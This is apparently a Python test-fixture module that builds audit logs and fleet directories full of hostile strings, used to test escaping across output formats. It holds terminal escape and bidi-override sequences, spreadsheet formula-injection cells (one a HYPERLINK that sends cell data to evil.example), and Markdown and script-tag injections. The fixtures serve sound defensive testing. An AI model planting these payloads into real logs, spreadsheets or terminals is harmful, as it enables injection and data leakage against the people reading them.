"""One corpus of hostile strings, and a log and fleet that carry them everywhere a log can.

Each string attacks one reader: a terminal (C0/C1 controls, escape sequences, bidi
overrides and isolates, zero-width characters, line and paragraph separators, DEL), a
spreadsheet (cells that start a formula: ``= + - @``, tab, CR), or a Markdown renderer
(links, images, HTML, entities, GFM autolinks, table pipes, emphasis, code). The tests in
``tests/unit/test_audit_hostile.py`` run every output format over them.
"""

from pathlib import Path
from typing import Any, Dict, List, Tuple

from tests.helpers.audit import T0, request, write_log
from tests.helpers.fleet import datagram, journal_entry, journal_export

HOSTILE: Tuple[str, ...] = (
    "\x1b]0;owned\x07\x1b[2J",  # set the terminal title, clear the screen
    "\x9b31mred",  # C1 CSI
    "abc\u202edcba",  # right-to-left override
    "\u2066iso\u2069\u200fmark\u061c",  # isolates, RLM, Arabic letter mark
    "zero\u200bwidth\u2060\ufeff",  # zero-width space, word joiner, BOM
    "line\u2028para\u2029",  # line and paragraph separators
    "cr\rlf\ntab\t",
    "del\x7f",
    '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "[link](https://evil.example)",
    "![img](https://evil.example/x.png)",
    "<script>alert(1)</script>",
    "<https://evil.example>",
    "&#x202e;&lt;&amp;",
    "https://evil.example/path",
    "www.evil.example",
    "admin@evil.example",
    "mailto:x@evil.example",
    "|cell|break|",
    "*em* _em_ `code` ~~del~~",
    "back\\slash",
    "# heading",
)


def hostile_records() -> List[Dict[str, Any]]:
    """Requests whose recipient, User-Agent, a category name and values are hostile.

    Recipients start with ``https://`` half of the time, so that they also count as CAs
    (and get a letter), and the contact and domain values are hostile too.
    """
    made = []
    for n, text in enumerate(HOSTILE):
        recipient = f"https://ca.example/{text}" if n % 2 else text
        record = request(T0 + n, recipient=recipient, user_agent=text)
        record["personal_data"][text] = [text]
        record["personal_data"]["contact"] = [f"mailto:{text}"]
        record["personal_data"]["domain"] = [text]
        record["personal_data"]["account_url"] = [text]
        made.append(record)
    return made


def hostile_log(path: Path) -> Path:
    """A log written by the real writer, full of :data:`HOSTILE` strings."""
    return write_log(path, hostile_records())


def hostile_fleet(root: Path) -> Tuple[Path, Path]:
    """A fleet directory with a hostile host name, and a journal whose hosts are hostile."""
    log = hostile_log(root / "written.jsonl")
    host_dir = root / "hosts" / "web\x1b[2J\u202e"
    host_dir.mkdir(parents=True)
    (host_dir / "disclosure.jsonl").write_bytes(log.read_bytes())
    lines = log.read_text(encoding="ascii").splitlines()
    entries = [
        journal_entry(datagram(line), HOSTILE[n % len(HOSTILE)], n) for n, line in enumerate(lines)
    ]
    journal = root / "journal.json"
    journal.write_bytes(journal_export(entries))
    return root / "hosts", journal
